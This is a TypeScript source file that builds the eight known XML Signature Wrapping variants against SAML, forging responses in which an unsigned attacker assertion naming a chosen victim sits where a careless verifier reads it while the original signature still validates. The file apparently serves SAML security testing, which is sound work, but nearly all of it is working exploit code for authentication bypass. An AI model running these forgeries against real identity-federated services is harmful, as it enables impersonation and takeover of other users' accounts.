import { randomUUID } from "node:crypto";

/**
 * Signature wrapping: signed text stays, and other text is put where a careless reader looks (Somorovsky et al., "On Breaking SAML",
 * 2012; numbered as SAML Raider does). `victim` is whom the attacker wants to be.
 */
export const WRAPPINGS: readonly [string, (signed: string, victim: string) => string][] = [
  [
    "1: the signed response lies in the signature of another",
    (xml, victim) => otherResponse(xml, victim, (signature) => within(signature, xml)),
  ],
  [
    "2: the signed response stands before the signature of another",
    (xml, victim) => otherResponse(xml, victim, (signature) => xml + signature),
  ],
  ["3: another assertion stands before the signed one", (xml, victim) => replaceAssertion(xml, (signed) => evil(signed, victim) + signed)],
  [
    "4: the signed assertion lies in another",
    (xml, victim) => replaceAssertion(xml, (signed) => evil(signed, victim).replace("</saml:Assertion>", `${signed}</saml:Assertion>`)),
  ],
  [
    "5: another assertion bears the signature, and the signed one stands at the end",
    (xml, victim) => replaceAssertion(xml, (signed) => withSignature(evil(signed, victim), signatureOf(signed)) + unsigned(signed)),
  ],
  [
    "6: another assertion bears the signature, in which the signed one lies",
    (xml, victim) => replaceAssertion(xml, (signed) => withSignature(evil(signed, victim), within(signatureOf(signed), unsigned(signed)))),
  ],
  [
    "7: another assertion with the same id lies among the extensions",
    (xml, victim) =>
      replaceAssertion(xml, (signed) => `<samlp:Extensions>${evil(signed, victim, idOf(signed))}</samlp:Extensions>${signed}`),
  ],
  [
    "8: the signed assertion lies in an object of the signature of one with the same id",
    (xml, victim) =>
      replaceAssertion(xml, (signed) => withSignature(evil(signed, victim, idOf(signed)), within(signatureOf(signed), unsigned(signed)))),
  ],
];

const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/su;
const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/su;

const assertionOf = (xml: string): string => ASSERTION.exec(xml)?.[0] ?? "";
const signatureOf = (xml: string): string => SIGNATURE.exec(xml)?.[0] ?? "";
const unsigned = (xml: string): string => xml.replace(SIGNATURE, "");
const idOf = (xml: string): string => / ID="([^"]*)"/u.exec(xml)?.[1] ?? "";
const replaceAssertion = (xml: string, put: (signed: string) => string): string => xml.replace(ASSERTION, put(assertionOf(xml)));
const within = (signature: string, what: string): string =>
  signature.replace("</ds:Signature>", `<ds:Object>${what}</ds:Object></ds:Signature>`);
const withSignature = (assertion: string, signature: string): string => assertion.replace("</saml:Issuer>", `</saml:Issuer>${signature}`);

/** The attacker's own assertion, unsigned. */
const evil = (signed: string, victim: string, id = `_${randomUUID()}`): string =>
  unsigned(signed)
    .replace(/ ID="[^"]*"/u, ` ID="${id}"`)
    .replace(/(<saml:NameID[^>]*>)[^<]*/u, `$1${victim}`);

/** A response of the attacker around what was signed. */
function otherResponse(xml: string, victim: string, put: (signature: string) => string): string {
  const own = xml.replace(ASSERTION, evil(assertionOf(xml), victim)).replace(/ ID="[^"]*"/u, ` ID="_${randomUUID()}"`);
  return own.replace(SIGNATURE, put(signatureOf(xml)));
}
